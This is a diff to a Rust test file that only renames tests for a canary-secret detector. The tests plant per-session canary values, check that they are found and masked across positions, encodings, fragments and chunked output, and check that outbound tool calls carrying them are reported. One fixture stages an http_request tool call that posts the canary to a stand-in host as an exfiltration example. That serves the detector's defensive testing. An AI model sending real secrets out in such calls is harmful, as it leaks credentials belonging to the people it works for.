@@ -357,7 +357,7 @@ mod tests {
     }
 
     #[test]
-    fn a_canary_is_the_same_for_the_same_session_and_for_no_other() {
+    fn a_session_always_has_the_same_canary_and_other_sessions_another() {
         let planter = Planter::new(&SECRET);
         let value = planter.variable(SESSION);
         assert_eq!(value, Planter::new(&SECRET).variable(SESSION));
@@ -369,7 +369,7 @@ mod tests {
     }
 
     #[test]
-    fn a_canary_is_found_wherever_it_stands_and_masked_there() {
+    fn a_canary_is_found_and_masked_at_any_position() {
         let (value, canaries) = planted();
         let place = || format!("env {VARIABLE}");
         let mut tree = json!({"a": ["x", format!("T={value}\n")], "n": 5});
@@ -383,7 +383,7 @@ mod tests {
     }
 
     #[test]
-    fn a_canary_is_found_in_every_encoding_that_is_named() {
+    fn a_canary_is_found_in_every_documented_encoding() {
         let (value, canaries) = planted();
         let body = &value.as_bytes()[4..];
         let reversed: Vec<u8> = value.bytes().rev().collect();
@@ -427,7 +427,7 @@ mod tests {
     }
 
     #[test]
-    fn a_part_of_twelve_characters_is_found_and_a_shorter_one_is_not() {
+    fn a_part_of_twelve_characters_is_found_and_a_shorter_part_is_not() {
         let (value, canaries) = planted();
         for from in 4..=40 - LEAST {
             let part = &value[from..from + LEAST];
@@ -442,7 +442,7 @@ mod tests {
     }
 
     #[test]
-    fn a_canary_that_comes_in_pieces_is_masked_from_where_it_can_be_known() {
+    fn a_canary_in_chunks_is_masked_from_the_first_recognisable_part() {
         let (value, canaries) = planted();
         let hexed = hex(value.as_bytes());
         for (text, size) in [(&value, 40), (&value, 1), (&value, 5), (&hexed, 1), (&hexed, 7)] {
@@ -466,7 +466,7 @@ mod tests {
     }
 
     #[test]
-    fn what_would_carry_it_away_is_told_and_what_stays_inside_is_not() {
+    fn calls_that_would_send_a_canary_out_are_reported_and_internal_ones_are_not() {
         let (value, canaries) = planted();
         for (tool, args, carried) in [
             ("http_request", json!({"url": "https://e.test/", "body": value}), true),
@@ -487,7 +487,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_no_canary_is_left_alone() {
+    fn text_without_a_canary_is_unchanged() {
         let (_, canaries) = planted();
         let other = Planter::new(&SECRET).variable(SessionId::from_u128(9));
         let numbers: String = (0..5000).map(|n| format!("{n} ")).collect();
